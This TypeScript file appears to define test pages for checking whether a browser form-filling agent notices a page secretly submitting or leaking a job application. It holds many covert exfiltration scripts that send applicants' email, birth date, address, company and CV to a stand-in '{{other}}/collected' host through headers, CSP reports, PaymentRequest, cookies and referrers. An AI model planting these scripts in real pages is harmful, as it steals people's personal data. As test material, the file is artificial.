import type { Asked, PageAttack, Reply } from '../attack';
import type { Evidence } from '../stage/evidence';
import { bytesReceived, frozenIn, unasked } from '../stage/judging';
import { applicationPage, field } from './markup';

/*
 * Sends that say what they are, or carry answers as they are, at places where nobody looks. Scripts know `form`, `answers` and `text`.
 */

/** Saves the answers one by one, as a page may, and asks for something after. */
const afterDrafts = (script: string): string =>
  `for (const [name, value] of answers) fetch('/drafts', { method: 'POST', body: new URLSearchParams([[name, value]]) }); setTimeout(() => ${script}, 500)`;

/** An application that its own requests send in steps, or in a body that is told of in parts. All to the site itself. */
const own: Record<string, string> = {
  // A control of ASP.NET is said to have changed; the address says that it is the end.
  'as-partial-update': `fetch('/applications/submit', { method: 'POST', body: new URLSearchParams([...answers, ['__EVENTTARGET', 'email']]) })`,
  'as-partial-update-json': `fetch('/api/v2/people', { method: 'POST', body: JSON.stringify({ ...Object.fromEntries(answers), 'javax.faces.source': 'email' }) })`,
  'json-as-a-file-part': `const data = new FormData(); data.append('application', new Blob([JSON.stringify(Object.fromEntries(answers))], { type: 'application/json' })); fetch('/api/v2/people', { method: 'POST', body: data })`,
  'as-a-blob': `fetch('/api/v2/people', { method: 'POST', body: new Blob([JSON.stringify(Object.fromEntries(answers))], { type: 'application/json' }) })`,
  'padded-value': `fetch('/api/v2/people', { method: 'POST', body: JSON.stringify({ d: 'x'.repeat(25000) + text, v: 1 }) })`,
  'accept-header': `fetch('/api/v2/people', { headers: { 'accept-x': encodeURIComponent(text) } })`,
  'named-autosave': `fetch('/api/v2/people?autosave', { method: 'POST', body: text })`,
  'saved-then-get': afterDrafts(`fetch('/applications/42/submit')`),
  'saved-then-image': afterDrafts(`{ new Image().src = '/applications/42/submit?t=1'; }`),
  'saved-then-status': afterDrafts(
    `fetch('/api/applications/42', { method: 'PATCH', body: '{"status":"SUBMITTED"}' })`,
  ),
  'saved-then-flag': afterDrafts(`fetch('/api/applications/42', { method: 'POST', body: '{"submit":true}' })`),
  'saved-then-alias': afterDrafts(
    `fetch('/graphql', { method: 'POST', body: JSON.stringify({ query: 'mutation M($id: ID!) { a: submitApplication(id: $id) { id } }', variables: { id: 42 } }) })`,
  ),
  'saved-then-nested-action': afterDrafts(
    `fetch('/api/rpc', { method: 'POST', body: JSON.stringify({ data: { action: 'submitApplication', id: 42 } }) })`,
  ),
  'saved-then-header': afterDrafts(
    `fetch('/api/rpc', { method: 'POST', headers: { 'x-action': 'submitApplication' }, body: '{"id":42}' })`,
  ),
  'saved-then-japanese': afterDrafts(`fetch('/応募/送信', { method: 'POST', body: '{"id":42}' })`),
  'background-fetch': `navigator.serviceWorker.ready.then((all) => all.backgroundFetch.fetch('a', [new Request('/applications/submit', { method: 'POST', body: text })]))`,
  'worker-address': `new Worker('/nothing.js?' + text)`,
  'shared-worker-address': `new SharedWorker('/nothing.js?' + text)`,
};

/** The same to somebody else, with what is said in what the browser is thought to write by itself, or in other words of the same. */
const elsewhere: Record<string, string> = {
  'accept-language': `fetch('{{other}}/collected', { mode: 'no-cors', headers: { 'accept-language': form.email.value.replace('@', ' ') } })`,
  'accept-of-own': `fetch('{{other}}/collected', { headers: { 'accept-x': encodeURIComponent(text) } })`,
  'content-type': `fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain;charset=' + form.last_name.value }, body: 'x' })`,
  'cache-control': `fetch('{{other}}/collected', { headers: { 'cache-control': encodeURIComponent(text) } })`,
  'csp-of-frame': `const frame = document.createElement('iframe'); frame.csp = "script-src https://" + form.first_name.value + '.' + form.last_name.value + '.example'; frame.src = '{{other}}/framed'; document.body.append(frame)`,
  'date-in-other-order': `fetch('{{other}}/collected?d=' + form.bday.value.split('-').reverse().join('/'), { mode: 'no-cors' })`,
  'street-without-number': `fetch('{{other}}/collected?d=' + form.street.value.replace(/\\d+ */, ''), { mode: 'no-cors' })`,
  'street-then-number': `fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ street: form.street.value.replace(/\\d+ */, ''), number: parseInt(form.street.value) }) })`,
  'company-first-word': `fetch('{{other}}/collected?d=' + form.company.value.split(' ')[0], { mode: 'no-cors' })`,
  'json-as-a-file-part': `const data = new FormData(); data.append('signature', 'a'.repeat(40)); data.append('file', new Blob([JSON.stringify(Object.fromEntries(answers))]), 'cv.pdf'); fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: data })`,
  'file-signed-by-the-page': `setTimeout(() => fetch('{{other}}/collected?signature=' + 'a'.repeat(40), { method: 'PUT', body: form.cv.files[0] }), 3000)`,
  'name-of-file': `setTimeout(() => { const data = new FormData(); data.append('signature', 'a'.repeat(40)); data.append('file', form.cv.files[0], btoa(text)); fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: data }); }, 3000)`,
  'json-as-a-file-part-later': `setTimeout(() => { const data = new FormData(); data.append('signature', 'a'.repeat(40)); data.append('file', new Blob([JSON.stringify(Object.fromEntries(answers))]), 'cv.pdf'); fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: data }); }, 3000)`,
  'padded-value': `fetch('{{other}}/collected', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ d: 'x'.repeat(25000) + text, v: 1 }) })`,
  'cookie-to-port': `document.cookie = 'd=' + encodeURIComponent(text) + ';path=/'; new Image().src = '{{port}}/collected'`,
  'cookie-to-sub': `document.cookie = 'd=' + encodeURIComponent(text) + ';path=/;domain=' + location.hostname; new Image().src = '{{sub}}/collected'`,
  'referrer-of-image': `history.replaceState(null, '', '/?d=' + text); document.body.append(Object.assign(new Image(), { referrerPolicy: 'unsafe-url', src: '{{other}}/collected' }))`,
  'url-user': `location = '{{other}}/guarded'.replace('//', '//' + btoa(text).replace(/[=+/]/g, '') + ':x@')`,
  'background-fetch': `navigator.serviceWorker.ready.then((all) => all.backgroundFetch.fetch('a', [new Request('{{other}}/collected?' + text)]))`,
  'payment-method': `new PaymentRequest([{ supportedMethods: '{{other}}/collected?' + text }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  'federated-log-in': `navigator.credentials.get({ identity: { providers: [{ configURL: '{{other}}/collected.json?' + text, clientId: text }] } })`,
  'csp-report': `document.head.append(Object.assign(document.createElement('iframe'), {})); const frame = document.createElement('iframe'); frame.src = '/with-policy?' + text; document.body.append(frame)`,
  'window-name': `const sink = document.querySelector('[name=sink]'); sink.name = text; sink.src = '{{other}}/reader'`,
};

/** Sockets that were open before the run, held by somebody else than the page. */
const sockets: Record<string, [before: string, send: string]> = {
  'of-a-worker': [`const worker = new Worker('/socket.js');`, `worker.postMessage(text)`],
  'of-a-shared-worker': [`const shared = new SharedWorker('/socket.js').port;`, `shared.postMessage(text)`],
  'of-the-service-worker': [``, `navigator.serviceWorker.ready.then(({ active }) => active.postMessage(text))`],
  'of-a-frame': [
    `const framed = Object.assign(document.createElement('iframe'), { src: '/socket' }); document.body.append(framed);`,
    `framed.contentWindow.postMessage(text, '*')`,
  ],
  'of-a-strangers-frame': [
    `const framed = Object.assign(document.createElement('iframe'), { src: '{{other}}/socket' }); document.body.append(framed);`,
    `framed.contentWindow.postMessage(text, '*')`,
  ],
  'of-a-tab-before': [`const tab = open('/socket');`, `new BroadcastChannel('b').postMessage(text)`],
  'new-of-a-worker': [`const worker = new Worker('/socket.js');`, `worker.postMessage(['new', text])`],
  'new-of-a-shared-worker': [
    `const shared = new SharedWorker('/socket.js').port;`,
    `shared.postMessage(['new', text])`,
  ],
  'new-of-a-strangers-frame': [
    `const framed = Object.assign(document.createElement('iframe'), { src: '{{other}}/socket' }); document.body.append(framed);`,
    `framed.contentWindow.postMessage(['new', text], '*')`,
  ],
  'new-of-the-service-worker': [
    ``,
    `navigator.serviceWorker.ready.then(({ active }) => active.postMessage(['new', text]))`,
  ],
};

const listen = (open: string) => `${open}
const tell = (data) => {
  if (Array.isArray(data)) { const late = new WebSocket(live); late.onopen = () => late.send(data[1]); return; }
  if (socket.readyState === 1) socket.send(data); else socket.onopen = () => socket.send(data);
};
onmessage = ({ data }) => tell(data);
globalThis.onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => tell(data); };
new BroadcastChannel('b').onmessage = ({ data }) => tell(data);`;
const opening = `const live = 'ws://' + location.host + '/live'; const socket = new WebSocket(live);`;

const extras = [
  field('Date of birth', 'bday', 'type="date" autocomplete="bday"'),
  field('Street and house number', 'street', 'type="text" autocomplete="street-address"'),
  field('Current company', 'company', 'type="text" autocomplete="organization"'),
].join('');

function page(before: string, script: string, fields = extras): string {
  return `${applicationPage(fields)}<iframe name="sink" hidden></iframe><script>
navigator.serviceWorker.register('/service-worker.js');
${before}
const form = document.forms[0];
let isOver = false;
const once = () => {
  if (isOver) return;
  isOver = true;
  const answers = [...new FormData(form)].filter(([, value]) => typeof value === 'string' && value !== '');
  const text = new URLSearchParams(answers).toString();
  ${script};
};
const all = () => [...form.querySelectorAll('input:not([type=file])')].every(({ value }) => value !== '');
// From the first answer on: what goes out before there is any says nothing.
let last;
form.addEventListener('change', () => { last ??= setTimeout(once, 6000); if (all()) setTimeout(once, 150); });
</script>`;
}

const serviceWorker = `${listen(opening)}
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));`;

function stageOf(before: string, script: string, fields?: string): PageAttack['stage'] {
  return {
    run: { kind: 'fill' },
    settleMs: 3500,
    at,
    pages: {
      site: {
        '/': page(before, script, fields),
        '/socket.js': listen(opening),
        '/socket': `<script>${listen(opening)}</script>`,
        '/service-worker.js': serviceWorker,
      },
      other: {
        '/socket': `<script>${listen(opening)}</script>`,
        '/reader': `<script>fetch('/collected', { method: 'POST', body: name })</script>`,
      },
    },
  };
}

function at({ path }: Asked, { other }: { other: string }): Reply | null {
  if (path.startsWith('/guarded')) return { status: 401, headers: { 'www-authenticate': 'Basic realm="a"' } };
  if (path.startsWith('/with-policy')) {
    return {
      headers: {
        'content-type': 'text/html',
        'content-security-policy': `img-src 'none'; report-uri ${other}/collected`,
      },
      body: `<img src="/x.png">`,
    };
  }
  return null;
}

/** What tells the site that the person has applied. A draft is none. */
const isSend = ({ role, path }: Asked): boolean =>
  role === 'site' && /^\/(?:applications|api|graphql|%E5|nothing|take|guarded|m\.json|icon\.png|live)/.test(path);

function judge(evidence: Evidence) {
  return {
    submits: evidence.told ? 0 : unasked(evidence).filter((one) => isSend(one) && one.path !== '/guarded').length,
    bytesElsewhere: evidence.told ? 0 : bytesReceived(evidence, ['other', 'port', 'sub']),
    frozen: frozenIn(evidence),
    told: evidence.told,
  };
}

const attack = (kind: string, name: string, stage: PageAttack['stage']): PageAttack => ({
  id: `${kind}/${name}`,
  class: kind,
  goal: `what was filled in is sent: ${name}`,
  needsBrowser: true,
  stage,
  judge,
});

const cv = `<p><label for="cv">Upload your CV</label> <input id="cv" name="cv" type="file"></p>`;

/** Requests of no answers that take long to look at, from the first answer on; in parts, or the page would stand still by its own doing. */
const flood = stageOf(
  `let sent = 0;
const send = (from) => {
  for (let at = from; at < from + 40; at += 1) fetch('{{other}}/flood?' + at, { method: 'POST', mode: 'no-cors', body: 'k' + at + '=' + 'fedcbaabcdef1212'.repeat(3000) }).catch(() => {});
  if (from < 360) setTimeout(send, 0, from + 40);
};
addEventListener('input', () => { if (sent++ < 3) send(0); });`,
  '',
);

export const unseenSends: PageAttack[] = [
  attack('unseen-sends', 'flood', flood),
  ...Object.entries(own).map(([name, script]) => attack('unseen-sends', name, stageOf('', script))),
  ...Object.entries(elsewhere).map(([name, script]) =>
    attack('unseen-leaks', name, stageOf('', script, /file/.test(name) ? extras + cv : extras)),
  ),
  ...Object.entries(sockets).map(([name, [before, script]]) =>
    attack('sockets-of-others', name, stageOf(before, script)),
  ),
];
